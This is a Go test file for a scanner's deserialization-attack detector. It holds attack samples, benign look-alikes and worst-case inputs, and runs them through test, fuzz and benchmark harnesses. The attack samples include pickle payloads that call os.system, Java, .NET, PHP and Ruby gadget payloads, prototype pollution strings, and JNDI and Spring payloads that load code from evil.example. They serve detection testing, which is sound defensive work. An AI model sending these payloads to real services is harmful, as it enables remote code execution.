package deserialization_test

import (
	"encoding/base64"
	"testing"

	"github.com/meshwarden/meshwarden/internal/scan/deserialization"
	"github.com/meshwarden/meshwarden/internal/scan/match/matchtest"
)

var encode = base64.StdEncoding.EncodeToString

var family = matchtest.Family{
	Find:     deserialization.Find,
	Triggers: deserialization.Triggers,
	Attacks: []matchtest.Attack{
		{Rule: "prototype_pollution", Text: "__proto__"},
		{Rule: "prototype_pollution", Text: "__proto__[admin]=true"},
		{Rule: "prototype_pollution", Text: "a[__proto__][admin]=1"},
		{Rule: "prototype_pollution", Text: `{"q":{"__proto__":{"admin":true}}}`},
		{Rule: "prototype_pollution", Text: "constructor[prototype][q]=1"},
		{Rule: "class_loader", Text: "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"},
		{Rule: "yaml_tag", Text: "!!com.sun.rowset.JdbcRowSetImpl"},
		{Rule: "gadget_element", Text: `<ObjectDataProvider x:Key="" ObjectType="{x:Type d:Process}" MethodName="Start"/>`},
		{Rule: "gadget_element", Text: "<map><entry><jdk.nashorn.internal.objects.NativeString/></entry></map>"},
		{Rule: "python_pickle", Text: "gANjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=="},
		{Rule: "java_stream", Text: encode([]byte("\xac\xed\x00\x05sr\x00\x11java.util.HashMap"))},
		{Rule: "java_stream", Text: "session=rO0ABXNyABFqYXZhLnV0aWwu"},
		{Rule: "java_stream", Text: "aced0005737200116a6176"},
		{Rule: "java_stream", Text: "\xac\xed\x00\x05sr"},
		{Rule: "dotnet_stream", Text: encode([]byte("\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00"))},
		{Rule: "dotnet_type", Text: `{"$type":"System.Collections.Hashtable, mscorlib"}`},
		{Rule: "gadget_type", Text: `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}`},
		{Rule: "gadget_class", Text: "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install"},
		{Rule: "php_object", Text: `O:8:"stdClass":1:{s:1:"a";i:1;}`},
		{Rule: "php_object", Text: `a:1:{i:0;O:+4:"Evil":0:{}}`},
		{Rule: "php_object", Text: `O:14:"A\B\C\Executor":0:{}`},
		{Rule: "python_pickle", Text: "cos\nsystem\n(S'id'\ntR."},
		{Rule: "python_pickle", Text: encode([]byte("\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."))},
		{Rule: "python_pickle", Text: encode([]byte("\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94"))},
		{Rule: "ruby_marshal", Text: "\x04\x08o:\x0eEvilClass"},
		{Rule: "ruby_marshal", Text: encode([]byte("\x04\x08[\x07c\x15Gem::SpecFetcherc\x13"))},
		{Rule: "node_function", Text: `{"x":"_$$ND_FUNC$$_function(){ require('child_process') }()"}`},
		{Rule: "yaml_tag", Text: "!!python/object/apply:os.system ['id']"},
		{Rule: "yaml_tag", Text: "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]"},
		{Rule: "yaml_tag", Text: "--- !ruby/object:Gem::Requirement"},
		{Rule: "gadget_type", Text: `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://evil.example/a"}`},
		{Rule: "gadget_type", Text: `["org.springframework.context.support.ClassPathXmlApplicationContext","http://evil.example/a.xml"]`},
		{Rule: "gadget_class", Text: "com.sun.rowset.JdbcRowSetImpl"},
		{Rule: "gadget_class", Text: "Lcom.sun.rowset.JdbcRowSetImpl;"},
		{Rule: "gadget_type", Text: `<void class="java.lang.ProcessBuilder">`},
		{Rule: "gadget_element", Text: "<java.lang.ProcessBuilder><command>"},
	},
	Benign: []string{
		"x.__proto__ = y", `o.__proto__["a"]`, `["__proto__", "constructor"]`, "Foo.class.classLoader.load()", `<ObjectDataProvider x:Key="a"/>`,
		"markdown_extensions:\n  - pymdownx.tabbed:\n      slugify: !!python/object/apply:pymdownx.slugs.slugify\n        kwds:\n          case: lower\n  - pymdownx.superfences:\n      custom_fences: []\n  - toc",
		`{"@type":"Person","@context":"https://schema.org"}`, "java.util.HashMap", "at java.lang.Thread.run(Thread.java:748)", "use java.lang.ProcessBuilder to start a process",
		`a:2:{s:1:"x";i:1;s:1:"y";b:0;}`, "/wEPDwUKMTY1NDU2MTA1Mg9kFgICAw8WAh4", "gANBbmFuYXM", "BAh7B0kiD3Nlc3Npb25faWQGOgZFVEkiJTE", "!!str 5", "!!python/tuple [1, 2]", "!important",
		"Hello!!com on", `O:8:"x"`, `{"class":"java.util.ArrayList"}`, "cos\nsin", "copyf2array\ncos\ncosh\ncosinv", "emoji_generator: !!python/name:material.extensions.emoji.to_svg", "the class com.sun.rowset.JdbcRowSetImpl is denied", "rO0m", "aced", "System.Diagnostics.Process starts one",
		`{"type":"System"}`, "case:{s:1}", "O:K:\"fine\"",
	},
	Worst: []string{"r", "rO0AB", "O:", "O:8:\"a", "a.", "com.sun.", "!!a.b.", "gASV", "BAhv", "cos\n", "\x04\x08[", "\"$type", "<java.lang.runtime", "O:1:\"\\"},
}

func TestFamily(t *testing.T) { matchtest.Run(t, family) }

func FuzzFind(f *testing.F) { matchtest.Fuzz(f, family, false) }

func BenchmarkFind(b *testing.B) { matchtest.Bench(b, family) }
